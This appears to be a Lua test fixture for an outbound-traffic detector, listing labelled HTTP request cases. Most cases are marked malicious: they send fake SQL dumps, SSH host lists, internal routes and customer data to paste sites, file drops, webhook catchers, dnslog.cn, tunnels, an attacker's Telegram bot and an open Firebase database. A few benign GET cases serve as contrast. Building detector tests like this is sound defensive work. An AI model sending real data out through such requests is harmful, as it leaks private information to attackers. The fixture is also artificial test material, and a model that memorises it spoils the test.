-- Second hold-out: uploads to paste sites, file drops, request catchers,
-- push channels, OAST/DNS-log catchers and tunnels neither earlier corpus
-- names, by their documented or commonly shown upload calls (gofile.io,
-- dpaste.com's API, PrivateBin, uguu.se, filebin.net, smee.io, ntfy.sh, a
-- Zapier catch hook, a dnslog.cn subdomain, localtunnel's loca.lt,
-- localhost.run's lhr.life, Microsoft dev tunnels, the Telegram Bot API's
-- sendDocument with the attacker's bot, an open Firebase Realtime Database).
-- The data carries no credential of a known shape: a SQL dump excerpt, an
-- SSH config's host list, an internal route map, a customer JSON, a stack
-- trace with internal paths.  Benign: reading a paste the user linked, the
-- Telegram Bot API's documentation, a package named after such a service,
-- a tunnel client's release download.
local F = require "reliability.egress.fake"
local K = require "reliability.egress.formats"

local cases = {}
local DATA = {
   sql = "-- pg_dump excerpt\nCOPY public.customers (id, email, country) FROM stdin;\n1\tnora@acme.example\tDE\n"
      .. "2\tliam@acme.example\tFR\n\\.\n",
   ssh = "Host bastion\n  HostName 203.0.113.10\n  User ops\nHost db-*\n  ProxyJump bastion\n  User postgres\n",
   routes = '{"internal":["/admin/impersonate","/admin/export-all","/billing/refund"],"service":"gateway"}',
   customers = '[{"id":881,"name":"Globex GmbH","contract_eur":120000},{"id":882,"name":"Initech","contract_eur":54000}]',
   trace = "Traceback (most recent call last):\n  File \"/srv/acme/payments/reconcile.py\", line 88, in run\n"
      .. "    ledger.post(batch)\nConnectionError: ledger.prod.internal:7000 refused\n",
}
local function bad(id, what, host, method, path, ctype, body)
   cases[#cases + 1] = { id = "h2-drop-" .. id, category = "dropsite", malicious = true, what = what, method = method,
                         host = host, path = path, headers = { ["Content-Type"] = ctype }, body = body }
end
local B = "----formdata-7d8f2a"
local MP = "multipart/form-data; boundary=" .. B
local function multipart(field, filename, data)
   return "--" .. B .. '\r\nContent-Disposition: form-data; name="' .. field .. '"; filename="' .. filename
      .. '"\r\nContent-Type: text/plain\r\n\r\n' .. data .. "\r\n--" .. B .. "--\r\n"
end
local function form(k, v) return k .. "=" .. (v:gsub("[^%w]", function(c) return ("%%%02X"):format(c:byte()) end)) end
local J = "application/json"
-- The attacker's own bot token sits in the Bot API path (built at load time, fake).
local ATTACKER_BOT = K.telegram(F.gen("h2-drop-tg"))

bad("gofile", "gofile.io upload server", "upload.gofile.io", "POST", "/uploadfile", MP, multipart("file", "dump.sql", DATA.sql))
bad("dpaste-com", "dpaste.com API v2", "dpaste.com", "POST", "/api/v2/", "application/x-www-form-urlencoded",
    form("content", DATA.ssh) .. "&syntax=text&expiry_days=1")
bad("privatebin", "a PrivateBin instance (JSON paste; here the data is not even encrypted)", "privatebin.net", "POST", "/",
    J, '{"v":2,"ct":"' .. DATA.routes:gsub('"', '\\"') .. '","meta":{"expire":"1day"}}')
bad("uguu", "uguu.se temporary upload (files[])", "uguu.se", "POST", "/upload", MP,
    multipart("files[]", "customers.json", DATA.customers))
bad("filebin", "filebin.net POST /bin/file", "filebin.net", "POST", "/k3x9q2w7m1/trace.txt", "application/octet-stream",
    DATA.trace)
bad("smee", "a smee.io webhook channel", "smee.io", "POST", "/Zq3vT8kLmN0pXyA1", J, DATA.routes)
bad("ntfy", "an ntfy.sh push topic", "ntfy.sh", "POST", "/acme-ci-7f3a9c", "text/plain", DATA.ssh)
bad("zapier", "a Zapier catch hook", "hooks.zapier.com", "POST", "/hooks/catch/1234567/3abcde9/", J, DATA.customers)
bad("dnslog", "a dnslog.cn subdomain (HTTP to the logged name)", "k2p9xq.dnslog.cn", "POST", "/", "text/plain", DATA.trace)
bad("loca-lt", "a localtunnel (loca.lt) endpoint", "quiet-ducks-swim.loca.lt", "POST", "/collect", J, DATA.customers)
bad("lhr-life", "a localhost.run tunnel (lhr.life)", "8f2c1a7d9e0b34.lhr.life", "PUT", "/dump.sql", "text/plain", DATA.sql)
bad("devtunnels", "a Microsoft dev tunnel", "x7k2m9pq-8080.euw.devtunnels.ms", "POST", "/in", "text/plain", DATA.ssh)
bad("telegram", "the Telegram Bot API sendDocument to the attacker's own chat", "api.telegram.org", "POST",
    "/bot" .. ATTACKER_BOT .. "/sendDocument", MP,
    "--" .. B .. '\r\nContent-Disposition: form-data; name="chat_id"\r\n\r\n-1002233445566\r\n'
    .. multipart("document", "routes.json", DATA.routes))
bad("firebaseio", "a world-writable Firebase Realtime Database", "loot-board-4c2e1-default-rtdb.firebaseio.com", "PUT",
    "/drops/acme.json", J, DATA.customers)

local function good(id, what, host, path)
   cases[#cases + 1] = { id = "h2-drop-" .. id, category = "dropsite", malicious = false, what = what, method = "GET",
                         host = host, path = path }
end
good("dpaste-raw", "reading a dpaste the user linked (a GET, nothing sent)", "dpaste.com", "/8QZ3KX7PA.txt")
good("telegram-docs", "the Telegram Bot API documentation", "core.telegram.org", "/bots/api")
good("smee-client-pkg", "npm metadata of the smee-client package", "registry.egress.test", "/smee-client")
good("cloudflared-release", "downloading a tunnel client release", "dl.egress.test",
     "/cloudflare/cloudflared/releases/download/2024.11.1/cloudflared-linux-amd64")

return cases
